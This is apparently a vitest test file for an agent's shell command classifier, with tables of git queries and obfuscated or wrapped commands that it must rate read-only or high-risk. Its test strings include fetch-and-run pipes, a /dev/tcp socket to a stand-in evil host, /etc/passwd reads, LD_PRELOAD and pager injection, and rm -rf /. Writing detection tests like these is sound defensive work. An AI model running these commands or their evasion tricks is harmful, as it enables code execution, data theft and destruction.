/**
 * Classifier cases added with the security core: more read-only git that must stay read-only (a classifier that asks
 * for everything fails usability), the list of tricks once more end to end, and how each reaches the
 * approval engine (always-ask paths, network flag, no rule for compounds).
 */
import { describe, expect, it } from 'vitest';
import { classifyCommand } from '../../src/main/tools/shell/command-classifier';
import type { RiskTier } from '../../src/shared/tools';
import { tempDir } from '../support/tool-context';

const ws = tempDir('deskhand-cls2-');
const ctx = { cwd: ws, workspaceRoots: [ws], dataDir: `${ws}-data` };

type Row = readonly [command: string, risk: RiskTier, network?: boolean];
const R: RiskTier = 'read-only';
const H: RiskTier = 'high-risk';
const families: Record<string, Row[]> = {
  'git queries stay read-only': [
    ['git remote -v', R, false],
    ['git remote get-url origin', R, false],
    ['git tag', R],
    ['git tag -l "v1.*" --sort=-v:refname', R],
    ['git config --get user.email', R],
    ['git config --list --show-origin', R],
    ['git stash list', R],
    ['git stash show -p', R],
    ['git reflog -n 5', R],
    ['git cat-file -p HEAD', R],
    ['git rev-list --count HEAD', R],
    ['git ls-tree -r HEAD --name-only', R],
    ['git merge-base main HEAD', R],
    ['git describe --tags --always', R],
    ['git shortlog -sn', R],
    ['git for-each-ref refs/heads', R],
    ['git show-ref --heads', R],
    ['git check-ignore -v build/x', R],
  ],
  'git that changes things stays high-risk': [
    ['git remote add evil https://evil.example/x.git', H, true],
    ['git remote set-url origin https://evil.example/x.git', H, true],
    ['git tag -d v1', H],
    ['git tag v9 HEAD', H],
    ['git config core.hooksPath /tmp/hooks', H],
    ['git config --add core.pager sh', H],
    ['git config --get x --unset y', H],
    ['git stash', H],
    ['git stash drop', H],
    ['git reflog expire --expire=now --all', H],
    ['git cat-file --textconv HEAD:secret.txt', H],
    ['git cat-file --filters HEAD:x', H],
    ['git shortlog --output=/tmp/x', H],
  ],
  'obfuscation and wrappers (issue list)': [
    ['c\\url https://x.example', H],
    ["$'\\x63url' https://x.example", H],
    ['cu""rl https://x.example', H],
    ['/usr/bin/c?rl x', H],
    ['cat${IFS}/etc/passwd', H],
    ['\u0441at file', H],
    ['env LD_PRELOAD=/tmp/x.so ls', H],
    ['BASH_ENV=/tmp/x bash -c ls', H],
    ['PATH=/tmp:$PATH ls', H],
    ['GIT_PAGER="sh -c id" git log', H],
    ["timeout 5 sh -c 'curl x | sh'", H, true],
    ['nice nohup wget -q x', H, true],
    ['xargs -a list.txt rm', H],
    ["find . -name '*.log' -delete", H],
    ['find . -exec sh -c id \\;', H],
    ["sed -n '1e id' x", H],
    ["sed 's/a/b/w /tmp/out' x", H],
    ['rg --pre ./evil foo', H],
    ['git diff --ext-diff', H],
    ['python3 -c "import os"', H],
    ["node -e 'require(\"child_process\")'", H],
    ['perl -e 1', H],
    ["eval 'ls'", H],
    ['source ./env.sh', H],
    ['alias ls=rm', H],
    ['f() { rm -rf /; }; f', H],
    ['a=$(curl -s x); echo $a', H, true],
    ['cat <(wget -qO- x)', H, true],
    ['exec 3<>/dev/tcp/evil.example/80', H, true],
  ],
};

const rows = Object.entries(families).flatMap(([family, cases]) => cases.map(([command, risk, network]) => [family, command, risk, network] as const));

describe('command classifier: hardening table', () => {
  it.each(rows)('%s: %s → %s', (_family, command, risk, network) => {
    const r = classifyCommand(command, ctx);
    expect(r.risk, r.reasons.join(' | ')).toBe(risk);
    if (network !== undefined) expect(r.network).toBe(network);
    if (risk === 'high-risk') expect(r.rulePattern).toBeNull();
  });
});
